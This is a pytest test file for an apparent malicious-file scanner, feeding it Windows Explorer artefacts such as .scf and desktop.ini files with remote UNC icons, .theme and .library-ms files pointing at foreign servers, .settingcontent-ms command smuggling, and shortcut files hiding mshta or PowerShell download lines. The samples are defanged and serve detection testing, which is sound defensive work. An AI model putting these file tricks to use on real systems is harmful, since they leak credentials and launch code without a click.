"""What Explorer loads without a click: commands, themes, folders, libraries, searches and settings."""

import pytest

from emotriage import Level, scan

LIBRARY = (
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    "<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{}</url></simpleLocation>"
    "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"
)
SETTING = '<?xml version="1.0"?><PCSettings><DeepLink>{}</DeepLink></PCSettings>'


def look(text: str | bytes, name: str):
    return scan(text if isinstance(text, bytes) else text.encode(), name=name, plugins=[])


@pytest.mark.parametrize(
    ("text", "name", "rule"),
    [
        ("[Shell]\nCommand=2\nIconFile=\\\\198.51.100.7\\a\\b.ico\n", "a.scf", "url.leaking-icon"),
        ("[Shell]\nIconFile=\\\\files.emotriage.invalid\\a\\b.ico,3\n", "a.scf", "url.remote-icon"),
        ("[.ShellClassInfo]\nIconResource=\\\\198.51.100.7\\a\\b.dll,-4\n", "desktop.ini", "url.leaking-icon"),
        (
            "[.ShellClassInfo]\nLocalizedResourceName=@\\\\198.51.100.7\\a\\b.dll,-4\n",
            "desktop.ini",
            "url.program-target",
        ),
        ("[Theme]\nBrandImage=\\\\198.51.100.7\\a\\b.png\n", "a.theme", "url.leaking-icon"),
        ("[Theme]\nA=1\n[boot]\nSCRNSAVE.EXE=\\\\198.51.100.7\\a\\b.scr\n", "a.theme", "url.program-target"),
        ("[Theme]\n[VisualStyles]\nPath=\\\\a.emotriage.invalid@80\\b.msstyles\n", "a.theme", "url.foreign-server"),
        (LIBRARY.format("\\\\198.51.100.7\\a"), "a.library-ms", "url.foreign-server"),
        (LIBRARY.format("file://198.51.100.7/a"), "a.library-ms", "url.foreign-server"),
        (LIBRARY.replace("simpleLocation", "iconReference").format("x"), "a.library-ms", None),
        (
            SETTING.format("%windir%\\system32\\cmd.exe /c emotriage-inert"),
            "a.settingcontent-ms",
            "url.setting-command",
        ),
        (SETTING.format("control.exe &amp; emotriage-inert"), "a.settingcontent-ms", "url.setting-command"),
        (SETTING.format("%windir%\\system32\\control.exe /name emotriage"), "a.settingcontent-ms", None),
        (SETTING.format("ms-settings:display"), "a.settingcontent-ms", None),
    ],
)
def test_what_is_loaded_or_started(text, name, rule):
    found = {one.rule for one in look(text, name).findings if one.rule.startswith("url.")}
    assert (rule in found) if rule else not found


@pytest.mark.parametrize("filler", [b"", bytes(5000), b"\r\n" * 5000])
def test_padding_hides_nothing(filler):
    data = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\a\\b.ico\r\n" + filler
    assert look(data, "a.scf").level >= Level.SUSPICIOUS


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n", "a.txt"),
        ("[.ShellClassInfo]\r\nLocalizedResourceName=@%SystemRoot%\\system32\\shell32.dll,-21770\r\n", "desktop.ini"),
        ("[Theme]\r\nBrandImage=C:\\a\\b.png\r\n[boot]\r\nSCRNSAVE.EXE=%windir%\\b.scr\r\n", "a.theme"),
        ("[theme]\r\nname = dark\r\nserver = build\r\n", "config.ini"),
    ],
)
def test_honest_ones_are_clean(text, name):
    assert look(text, name).level is Level.CLEAN


def test_a_script_does_not_become_one_by_its_first_line():
    verdict = look(
        '[shell]\r\nvar shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");\r\n', "a.js"
    )
    assert verdict.artifacts[0].kind == "script"


@pytest.mark.parametrize(
    "where", ["C:\\docs", "\\\\198.51.100.7\\a", "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}"]
)
def test_what_is_read_whole_is_no_gap(where):
    assert look(LIBRARY.format(where), "a.library-ms").complete


def test_a_setting_is_read_whole():
    assert look(SETTING.format("%windir%\\system32\\cmd.exe /c emotriage-inert"), "a.settingcontent-ms").complete


MANY = "".join(f"<url>word {number}</url>" for number in range(300))


@pytest.mark.parametrize(
    "inner",
    [
        "<url>shell:::{00000000-0000-0000-0000-000000000000}</url>",
        "<url>::{00000000-0000-0000-0000-000000000000}</url>",
        "<url>emotriage-inert:x</url>",
        "<serialized>MBAAAEAFCAAA</serialized>",
        '<locationProvider clsid="{00000000-0000-0000-0000-000000000000}"/>',
        MANY,
    ],
)
def test_what_leads_in_an_unknown_way_is_a_gap(inner):
    verdict = look(LIBRARY.replace("<url>{}</url>", inner), "a.library-ms")
    assert {one.rule for one in verdict.gaps} == {"xml.active-document"}


@pytest.mark.parametrize("name", ["a.library-ms", "a.xml"])
def test_a_document_type_is_said_once(name):
    verdict = look("<!DOCTYPE a><libraryDescription/>", name)
    assert [one.rule for one in verdict.gaps] == ["xml.document-type"]


def test_a_library_that_is_cut_is_a_gap():
    assert not look(LIBRARY.format("\\\\198.51.100.7\\a")[:-30], "a.library-ms").complete


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "a.js",
            'var InternetShortcut;\r\nvar shell = new ActiveXObject("WScript.Shell");\r\nshell.Run("emotriage-inert");',
        ),
        ("a.bat", "URL=https://a.emotriage.invalid/\r\n@echo off\r\nstart mshta http://a.emotriage.invalid/x.hta\r\n"),
        (
            "a.txt",
            '@echo off\r\nset A=1\r\nif exist C:\\inert goto end\r\ncall powershell -c "iwr emotriage"\r\n:end\r\n',
        ),
    ],
)
def test_a_script_behind_the_section_is_looked_at(name, text):
    verdict = look(f"[InternetShortcut]\r\n{text}", name)
    assert verdict.artifacts[0].kind == "url"
    assert any(one.rule.startswith("script.") for one in verdict.findings)


def test_an_honest_link_has_no_script_in_it():
    verdict = look("[InternetShortcut]\r\nURL=https://www.emotriage.invalid/\r\nIconIndex=0\r\n", "a.url")
    assert len(verdict.artifacts) == 1
